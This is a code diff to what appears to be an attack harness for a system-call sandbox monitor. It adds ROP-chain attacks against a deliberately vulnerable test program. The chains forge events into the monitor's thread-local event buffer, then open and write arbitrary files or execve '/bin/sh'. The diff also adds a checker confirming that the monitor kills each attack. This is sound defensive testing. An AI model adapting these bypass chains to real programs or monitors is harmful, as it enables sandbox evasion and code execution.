@@ -5,6 +5,12 @@
                                              victim (symbols, gadgets, PLT, libc offsets,
                                              marker instructions, a forged-marker walk),
                                              written to VICTIM.attack.json
+  attacks.py prepare VICTIM --evbuf-walk TRACE
+                                             the same for bufd (built with --dyck-buffer):
+                                             the buffer's offset and the events to forge
+  attacks.py check-record ATTACK VICTIM REPORT
+                                             whether sbx run's --json-report REPORT holds
+                                             the kill record ATTACK must cause (evbuf-*)
   attacks.py run ATTACK VICTIM OUTPREFIX [-- RUNNER...]
                                              attack a running victim: RUNNER... VICTIM
                                              (e.g. `sbx run --mode dyck --`), talking to
@@ -28,6 +34,7 @@ import threading
 import time
 
 SBX_MARKER_NR = 999
+EVBUF_CAP = 32                                       # SBX_EVBUF_CAP
 KINDS = {"libc": 1, "call": 2, "ret": 3, "cb-enter": 4, "cb-exit": 5, "tail": 6,
          "sj-save": 7, "sj-resume": 8}
 
@@ -133,6 +140,69 @@ def pinned_sites(path):
     return entries
 
 
+def elf_section(path, wanted):
+    """(link-time address, bytes) of the executable's section named wanted, or None."""
+    with open(path, "rb") as f:
+        elf = f.read()
+    shoff, = struct.unpack_from("<Q", elf, 0x28)
+    shentsize, shnum, shstrndx = struct.unpack_from("<HHH", elf, 0x3A)
+    headers = [struct.unpack_from("<IIQQQQIIQQ", elf, shoff + i * shentsize)
+               for i in range(shnum)]
+    strtab = headers[shstrndx]
+    for name, _type, _flags, addr, offset, size, *_ in headers:
+        end = elf.index(b"\0", strtab[4] + name)
+        if elf[strtab[4] + name:end] == wanted:
+            return addr, elf[offset:offset + size]
+    return None
+
+
+def evbuf_tpoff(path):
+    """The buffer's offset from the thread pointer, from the executable's .sbx_evbuf
+    section (specs/marker-abi.md, "The .sbx_evbuf section": u32 version 1, u32
+    capacity 32, s64 tpoff), or None for a program built without --dyck-buffer."""
+    sec = elf_section(path, b".sbx_evbuf")
+    if sec is None:
+        return None
+    version, cap, tpoff = struct.unpack_from("<IIq", sec[1], 0)
+    if version != 1 or cap != EVBUF_CAP:
+        raise SystemExit("prepare: %s: .sbx_evbuf version %d capacity %d" % (path, version, cap))
+    return tpoff
+
+
+def evbuf_walk(trace, policy):
+    """The events a benign run of bufd makes (trace: `post 5`, then `log w`) from
+    handle_post()'s hijacked return to log's open: what the attacker forges into the
+    event buffer (evbuf-*). handle_post() reads its body with one read of 5 bytes
+    and then makes exactly one system call, the write of its "post:" line, before it
+    returns (bufd.c, say_number()): every marker after that write's line up to open's
+    LIBC marker is the walk. sbx record writes buffered events as the markers they
+    stand for, before the system call that drained them (specs/trace-format.md), so
+    these are the events a build without --dyck-buffer would mark, in order; open's
+    is a synchronous marker, all the others are bufferable."""
+    ids = policy_symbols(policy)
+    lines = []
+    with open(trace) as f:
+        for line in f:
+            p = line.split()
+            if p and p[0] in ("m", "s"):
+                lines.append(p)
+    body = next((i for i, p in enumerate(lines) if p[0] == "s" and p[3:5] == ["0", "5"]), None)
+    if body is None:
+        raise SystemExit("prepare: %s: no read of the 5-byte body" % trace)
+    post = next((i for i in range(body + 1, len(lines))
+                 if lines[i][0] == "s" and lines[i][3] == "1"), None)
+    if post is None:
+        raise SystemExit("prepare: %s: no write after the body's read" % trace)
+    walk = []
+    for p in lines[post + 1:]:
+        if p[0] != "m":
+            continue
+        walk.append([KINDS[p[3]], int(p[4])])
+        if walk[-1] == [KINDS["libc"], ids["open"]]:
+            return walk
+    raise SystemExit("prepare: %s: no LIBC open marker after handle_post()" % trace)
+
+
 def policy_symbols(policy):
     ids = {}
     with open(policy) as f:
@@ -179,7 +249,7 @@ def forged_walk(trace, policy):
             "before_write": marks[to_open + 1:to_write + 1]}
 
 
-def prepare(victim, walk_trace=None):
+def prepare(victim, walk_trace=None, evbuf_trace=None):
     syms = symbols(victim)
     elf_type = sh("readelf", "-h", victim)
     pie = "DYN (" in elf_type
@@ -206,6 +276,15 @@ def prepare(victim, walk_trace=None):
         for kind, ident in info["walk"]["before_openat"] + info["walk"]["before_write"]:
             if info["sites"] and "%d:%d" % (kind, ident) not in info["sites"]:
                 raise SystemExit("prepare: no pinned site for marker %d:%d" % (kind, ident))
+    tpoff = evbuf_tpoff(victim)
+    if tpoff is not None:
+        info["evbuf_tpoff"] = tpoff
+        ids = policy_symbols(victim + ".dyck")
+        info["policy_symbols"] = ids
+    if evbuf_trace:
+        if tpoff is None:
+            raise SystemExit("prepare: %s: built without --dyck-buffer" % victim)
+        info["evbuf_walk"] = evbuf_walk(evbuf_trace, victim + ".dyck")
     with open(victim + ".attack.json", "w") as f:
         json.dump(info, f, indent=1, sort_keys=True)
 
@@ -398,6 +477,22 @@ class Rop:
         rdx = self.lk.base + entry if entry is not None else 0
         return self.syscall(SBX_MARKER_NR, kind, ident, rdx)
 
+    def evbuf(self, words, count=None, first=0):
+        """Writes words into the thread's event buffer from slot `first` on, and its
+        count (default: the slot after the last word). The buffer (__sbx_evbuf,
+        specs/marker-abi.md, "The buffer": u32 count, u32 reserved, u64 ev[32]) is at
+        the thread pointer, which %fs:0 holds, plus tpoff, which the executable's
+        .sbx_evbuf section gives: no address is guessed."""
+        if count is None:
+            count = first + len(words)
+        self.add(self.g("tp_to_rax"), self.g("pop_rsi"), self.lk.info["evbuf_tpoff"],
+                 self.g("add_rsi_to_rax"), self.g("mov_rax_to_rdi"),
+                 self.g("pop_rsi"), count, self.g("write_rsi_to_rdi"))  # count, reserved 0
+        self.add(*[self.g("add8_rdi")] * first)
+        for w in words:
+            self.add(self.g("add8_rdi"), self.g("pop_rsi"), w, self.g("write_rsi_to_rdi"))
+        return self
+
     def exit(self, code=0):
         return self.syscall(NR_EXIT_GROUP, code)
 
@@ -561,6 +656,130 @@ def attack_vfork(v, info, name):
     post(v, info, build)
 
 
+# --- bufd.c (built with --dyck-buffer): forged words in the event buffer ---------------
+# The hijack is stack.c's (bufd's handle_post() has the same bug); the chain first
+# writes the thread's __sbx_evbuf, then makes the sensitive raw system call, at
+# whose entry the monitor drains the buffer (specs/kernel-abi.md, "Buffered events").
+
+def evword(kind, ident):
+    return (kind << 32) | ident
+
+
+def attack_evbuf_forged_libc(v, info, name):
+    """(a) The walk a benign run makes from handle_post()'s return to log's open
+    (evbuf_walk), forged into the buffer, open's LIBC event included: open's window
+    may open files for writing, and the automaton accepts open there, but open is
+    not bufferable (its derived set has the write right), so its event is refused
+    from the buffer (reason 29). Then a raw openat of a file of the attacker's choice
+    and a write of the canary into it."""
+    def build(rop, lk, scratch):
+        rop.evbuf([evword(k, i) for k, i in info["evbuf_walk"]])
+        open_and_write(rop, scratch, name)
+        rop.exit(0)
+    post(v, info, build)
+
+
+def attack_evbuf_forged_walk(v, info, name):
+    """(b) The same walk without open's event: every word is a bufferable event the
+    automaton accepts, up to log's doorstep. Then the raw openat for writing: outside
+    the window of the last event taken (reason 20)."""
+    def build(rop, lk, scratch):
+        rop.evbuf([evword(k, i) for k, i in info["evbuf_walk"][:-1]])
+        open_and_write(rop, scratch, name)
+        rop.exit(0)
+    post(v, info, build)
+
+
+def evbuf_then_execve(words, **where):
+    def attack(v, info, name):
+        def build(rop, lk, scratch):
+            rop.evbuf(words(info), **where)
+            execve_sh(rop, scratch, name)
+            rop.exit(42)
+        post(v, info, build)
+    return attack
+
+
+# (c) Garbage, then execve("/bin/sh", ...): a word of an unknown kind (42); a LIBC
+# word whose id is the policy's number of symbols (one past the last); a count of
+# 2^32-1 with slot 31 all ones (the count is clamped to 32: slots 1..30 are 0, so
+# the drain reaches slot 31 only through the clamp and the slot rule).
+attack_evbuf_bad_kind = evbuf_then_execve(lambda info: [evword(42, 0)])
+attack_evbuf_bad_id = evbuf_then_execve(
+    lambda info: [evword(KINDS["libc"], len(info["policy_symbols"]))])
+attack_evbuf_huge_count = evbuf_then_execve(
+    lambda info: [0xFFFFFFFFFFFFFFFF], count=0xFFFFFFFF, first=31)
+
+
+def expected_record(attack, info, mode):
+    """What the kill record of an evbuf-* attack must say (sbx run --json-report's
+    violation, specs/json-output.md): derived from bufd.c and the policy. The walk's
+    two attacks in dyck mode also show that the forged walk was taken: the monitor's
+    top frame is append_log()'s when the call is a site (where open() is allowed)."""
+    buffered = "buffered event that may not come from the buffer"
+    ids = info["policy_symbols"]
+    nr_symbols = len(ids)
+    walk = info["evbuf_walk"]
+    in_log = {}
+    if mode == "dyck" and len(walk) >= 2 and walk[-2][0] == KINDS["call"]:
+        in_log = {"stack.0.function": "main", "stack.0.callees": ["append_log"]}
+    if attack == "evbuf-forged-libc":
+        return dict(in_log, **{"reason": buffered, "event.kind": "libc", "event.id": ids["open"],
+                               "event.name": "open", "drained_at": NR_OPENAT})
+    if attack == "evbuf-forged-walk":
+        kind, ident = walk[-2]
+        window = [k for k, v in ids.items() if v == ident][0] if kind == KINDS["libc"] else "none"
+        return dict(in_log, **{"reason": "system call the announced libc function cannot make",
+                               "event.kind": "syscall", "event.id": NR_OPENAT, "window": window})
+    if attack == "evbuf-bad-kind":
+        return {"reason": buffered, "event.kind": "unknown", "event.id": 0,
+                "event.description": "marker of unknown kind 42 (id 0)", "drained_at": NR_EXECVE}
+    if attack == "evbuf-bad-id":
+        return {"reason": buffered, "event.kind": "libc", "event.id": nr_symbols,
+                "drained_at": NR_EXECVE}
+    if attack == "evbuf-huge-count":
+        return {"reason": buffered, "event.kind": "unknown", "event.id": 0xFFFFFFFF,
+                "event.description": "marker of unknown kind 4294967295 (id 4294967295)",
+                "drained_at": NR_EXECVE}
+    raise SystemExit("expect: no expected record for %s" % attack)
+
+
+def check_record(attack, victim, report):
+    """Exit 0 iff the run's report has exactly one violation, a kill, whose fields
+    are expected_record's; prints what it compared."""
+    with open(victim + ".attack.json") as f:
+        info = json.load(f)
+    try:
+        with open(report) as f:
+            doc = json.load(f)
+        violations = doc["violations"]
+        want = expected_record(attack, info, doc["mode"])
+    except (OSError, ValueError, KeyError) as e:
+        print("no report: %s" % e)
+        return 1
+    if len(violations) != 1:
+        print("%d violations, want 1" % len(violations))
+        return 1
+    got, bad = violations[0], []
+    for key, value in sorted(want.items()):
+        field = got
+        for part in key.split("."):
+            if isinstance(field, list) and part.isdigit():
+                field = field[int(part)] if int(part) < len(field) else None
+            else:
+                field = field.get(part) if isinstance(field, dict) else None
+        ok = field.startswith(value) if key == "reason" and isinstance(field, str) else field == value
+        if not ok:
+            bad.append("%s %r, want %r" % (key, field, value))
+    if not got.get("killed"):
+        bad.append("not a kill record")
+    if bad:
+        print("; ".join(bad))
+        return 1
+    print(", ".join("%s %s" % (k, want[k]) for k in sorted(want)))
+    return 0
+
+
 ATTACKS = {
     "fnptr-plt": attack_fnptr_plt,
     "fnptr-leak": attack_fnptr_leak,
@@ -574,6 +793,11 @@ ATTACKS = {
     "clone": attack_clone,
     "clone3": attack_clone3,
     "vfork-execve": attack_vfork,
+    "evbuf-forged-libc": attack_evbuf_forged_libc,
+    "evbuf-forged-walk": attack_evbuf_forged_walk,
+    "evbuf-bad-kind": attack_evbuf_bad_kind,
+    "evbuf-bad-id": attack_evbuf_bad_id,
+    "evbuf-huge-count": attack_evbuf_huge_count,
 }
 
 
@@ -596,11 +820,15 @@ def run(attack, victim, prefix, runner, timeout):
 
 def main(argv):
     if len(argv) >= 2 and argv[0] == "prepare":
-        walk = None
+        walk = evbuf = None
         if len(argv) == 4 and argv[2] == "--walk":
             walk = argv[3]
-        prepare(argv[1], walk)
+        if len(argv) == 4 and argv[2] == "--evbuf-walk":
+            evbuf = argv[3]
+        prepare(argv[1], walk, evbuf)
         return 0
+    if len(argv) == 4 and argv[0] == "check-record":
+        return check_record(argv[1], argv[2], argv[3])
     if len(argv) >= 4 and argv[0] == "run" and argv[1] in ATTACKS:
         runner = argv[5:] if len(argv) > 4 and argv[4] == "--" else []
         timeout = float(os.environ.get("ATTACK_TIMEOUT", "60"))
